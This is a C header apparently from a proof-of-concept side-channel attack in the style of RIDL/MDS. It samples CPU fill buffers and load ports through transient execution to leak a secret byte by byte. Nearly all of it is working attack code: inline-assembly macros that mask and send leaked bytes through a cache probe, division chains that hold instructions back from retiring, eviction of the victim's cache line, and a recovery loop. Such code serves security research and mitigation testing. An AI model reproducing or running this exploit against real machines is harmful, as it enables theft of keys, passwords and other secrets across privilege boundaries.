/*
 * Sampling of the buffers through which cache lines pass, for a byte of the secret.
 *
 * What a load receives belongs to any line that has come in lately. So it is a load of eight bytes,
 * of the wanted one and the seven before it, which are known: the mark before the secret, and what
 * has been found already. If they are not what they should be, this is another line and nothing is
 * sent; van Schaik et al. ("RIDL", 2019) likewise mask, subtract and rotate. Several loads one after
 * the other receive what several buffers hold.
 */
#ifndef BUFFERS_H
#define BUFFERS_H

#include "attack.h"

#include <sys/mman.h>

#include "channel.h"
#include "evict.h"
#include "record.h"
#include "secret.h"

enum { LINE_BYTES = 64, PAGE_BYTES = 4096, HALF_PORT = 8, KNOWN_BEFORE = 7 };

/* Of a sample; where bytes go that are not the secret's, two lines that stay in the cache. */
static const uint8_t *probe;
static uint8_t elsewhere[PAGE_BYTES + LINE_BYTES] __attribute__((aligned(64), unused));

/*
 * What has been found, behind the mark, and known below: all inverted. Else this process's own copies, which
 * pass the buffers with its registers and the lines around, would be taken for the secret.
 */
static uint8_t found[KNOWN_BEFORE + MOST_BYTES];

/* Of a sample: where in a page its loads are, and the bytes before the wanted one. */
static int place;
static uint64_t known;

/* The bytes before the secret's byte at an index, the first of them lowest; one of zero behind them. */
static inline uint64_t known_before(int index)
{
	uint64_t bytes = ~0ULL;

	memcpy(&bytes, found + index, KNOWN_BEFORE);
	return bytes;
}

/*
 * Where in a page to load from. Only the place in the line decides what of a buffer is received. The
 * line goes round, because what the kernel stored at the same place of a page would come first.
 */
static inline int place_of_load(int index)
{
	static int line;

	line = (line + 7) % (PAGE_BYTES / LINE_BYTES);
	return line * LINE_BYTES + (options.address + index - KNOWN_BEFORE) % LINE_BYTES;
}

/*
 * Prepares that the secret's line comes in anew when it is used next: evicts it. Before that it is
 * used once more, so that what else its user needs is in the cache, and does not come in after it.
 */
static inline void prepare_use(int index)
{
	use_secret(index);
	evict(options.address + index, first_level_pages);
}

/*
 * Assembly: if the first seven bytes of %rax are those in %[known], its last is sent by %[probe],
 * otherwise a zero by %[elsewhere]. Uses %rax, %rcx and %rdx.
 */
#define SEND_IF_KNOWN                           \
	"not %%rax\n\t"                         \
	"xor %[known], %%rax\n\t"               \
	"mov %%rax, %%rcx\n\t"                  \
	"shl $8, %%rcx\n\t"                     \
	"mov $0, %%ecx\n\t"                     \
	"cmovne %%rcx, %%rax\n\t"               \
	"mov %[probe], %%rcx\n\t"               \
	"cmovne %[elsewhere], %%rcx\n\t"        \
	"shr $56, %%rax\n\t"                    \
	"mov %%eax, %%edx\n\t"                  \
	"and $15, %%edx\n\t"                    \
	"shl $8, %%edx\n\t"                     \
	"movzbl (%%rcx, %%rdx), %%edx\n\t"      \
	"and $0xf0, %%eax\n\t"                  \
	"shl $4, %%eax\n\t"                     \
	"movzbl 4096(%%rcx, %%rax), %%edx\n\t"

/*
 * Assembly: divisions behind each other keep what follows from retiring. Unlike loads from memory they
 * take no buffer. Uses %rax, %rcx and %rdx.
 */
#define KEEP_FROM_RETIRING                      \
	"mov $1, %%eax\n\t"                     \
	"mov $1, %%ecx\n\t"                     \
	"xor %%edx, %%edx\n\t"                  \
	"div %%rcx\n\t"                         \
	"div %%rcx\n\t"                         \
	"div %%rcx\n\t"

/* As many samples of a kind as fit into one transient window. */
#define FOUR_TIMES(sample) sample sample sample sample
#define TWELVE_TIMES(sample) FOUR_TIMES(sample) FOUR_TIMES(sample) FOUR_TIMES(sample)

/* A load of eight bytes at %[address]. */
#define SAMPLE_BUFFER "mov (%[address]), %%rax\n\t" SEND_IF_KNOWN

/*
 * A load of 16 bytes at %[address], of which the upper eight count. It receives what a load port
 * delivered last, and shorter loads in between leave the upper half of a port as it was: so that of the
 * last long load survives what the kernel does.
 */
#define SAMPLE_PORT                             \
	"movdqu (%[address]), %%xmm0\n\t"       \
	"psrldq $8, %%xmm0\n\t"                 \
	"movq %%xmm0, %%rax\n\t" SEND_IF_KNOWN

/* The owner of a secret compares 16 bytes at once: from where, for the upper half to end with the byte. */
static inline int place_of_comparison(int index)
{
	return index - KNOWN_BEFORE - HALF_PORT;
}

/* Where a line begins that has the place to load from. */
static inline int line_of(int place)
{
	return place / LINE_BYTES * LINE_BYTES;
}

/* The next sample is for the byte at an index. */
static inline void aim(int index)
{
	place = place_of_load(index);
	known = known_before(index);
	flush_probe(probe);
	touch(elsewhere);
	touch(elsewhere + PAGE_BYTES);
	memory_fence();
}

/*
 * Recovers the secret's bytes in order, as each is needed for those behind it. What is behind one of
 * which nothing was seen cannot be told. Where the first one came out the others will, so they get
 * eight times its samples: a line is seldom left where many come in behind it.
 */
static inline void recover_in_order(int (*sample)(int index), int samples_of_first)
{
	memset(found, ~MARK, KNOWN_BEFORE);
	for (int i = 0; i < options.bytes; i++) {
		struct patience patience = { .samples = i ? 8 * samples_of_first : samples_of_first, .lead = 2 };
		int value = recover_byte(i, sample, patience, 0).value;

		if (value == NOTHING)
			break;
		found[KNOWN_BEFORE + i] = ~value;
	}
	printf("done\n");
}

#endif
